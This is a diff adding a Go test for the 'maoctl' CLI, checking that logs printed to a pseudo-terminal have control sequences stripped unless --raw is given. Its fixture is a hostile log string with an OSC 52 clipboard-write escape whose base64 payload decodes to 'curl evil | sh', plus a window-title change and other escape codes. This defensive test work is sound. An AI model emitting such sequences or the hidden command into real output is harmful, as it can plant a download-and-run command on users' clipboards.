@@ -1,0 +1,90 @@
+package maoctl
+
+import (
+	"bytes"
+	"fmt"
+	"io"
+	"os"
+	"strings"
+	"syscall"
+	"testing"
+
+	"golang.org/x/sys/unix"
+	"golang.org/x/term"
+)
+
+// openPty opens a pseudo-terminal in raw mode (no newline translation):
+// what maoctl writes to tty, master reads.
+func openPty(t *testing.T) (master, tty *os.File) {
+	t.Helper()
+	master, err := os.OpenFile("/dev/ptmx", os.O_RDWR|syscall.O_NOCTTY, 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { master.Close() })
+	if err := unix.IoctlSetPointerInt(int(master.Fd()), unix.TIOCSPTLCK, 0); err != nil {
+		t.Fatal(err)
+	}
+	n, err := unix.IoctlGetInt(int(master.Fd()), unix.TIOCGPTN)
+	if err != nil {
+		t.Fatal(err)
+	}
+	tty, err = os.OpenFile(fmt.Sprintf("/dev/pts/%d", n), os.O_RDWR|syscall.O_NOCTTY, 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := term.MakeRaw(int(tty.Fd())); err != nil {
+		t.Fatal(err)
+	}
+	return master, tty
+}
+
+// onTerminal runs maoctl with its stdout on a terminal and returns what
+// the terminal received.
+func onTerminal(t *testing.T, args ...string) string {
+	t.Helper()
+	master, tty := openPty(t)
+	got := make(chan string, 1)
+	go func() {
+		var b bytes.Buffer
+		io.Copy(&b, master) // until the tty side is closed (EIO)
+		got <- b.String()
+	}()
+	var errOut bytes.Buffer
+	err := Run(t.Context(), args, tty, &errOut)
+	tty.Close()
+	if err != nil {
+		t.Fatalf("maoctl %s: %v\n%s", strings.Join(args, " "), err, errOut.String())
+	}
+	return <-got
+}
+
+// On a terminal, a run's log is printed without control sequences, unless
+// --raw says otherwise.
+func TestLogsOnATerminal(t *testing.T) {
+	if !isTerminal(func() *os.File { _, tty := openPty(t); return tty }()) {
+		t.Fatal("a pseudo-terminal is not a terminal")
+	}
+	hostile := "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b]0;owned\x1b\\\x1b[31mred\x1b[0m\rover\a\n"
+	const clean = "red\nover\n"
+	f, srv := newFake(t)
+	f.runs[0].log = hostile
+	script := f.scripts["gh-crawler"]
+	script.log = hostile
+	f.scripts["gh-crawler"] = script
+	id := f.runs[0].rec.ID
+
+	if got := onTerminal(t, "--addr", srv.URL, "run", "logs", id); got != clean {
+		t.Errorf("run logs: %q, want %q", got, clean)
+	}
+	if got := onTerminal(t, "--addr", srv.URL, "run", "logs", "--raw", id); got != hostile {
+		t.Errorf("run logs --raw: %q, want the log unchanged %q", got, hostile)
+	}
+	if got := onTerminal(t, "--addr", srv.URL, "tool", "run", "gh-crawler", "--follow"); got != clean {
+		t.Errorf("tool run --follow: %q, want %q", got, clean)
+	}
+	if got := onTerminal(t, "--addr", srv.URL, "run", "show", id); strings.ContainsAny(got, "\x1b\a\r") ||
+		!strings.Contains(got, "\n  red\n  over\n") {
+		t.Errorf("run show: %q, want the log's end without control sequences", got)
+	}
+}
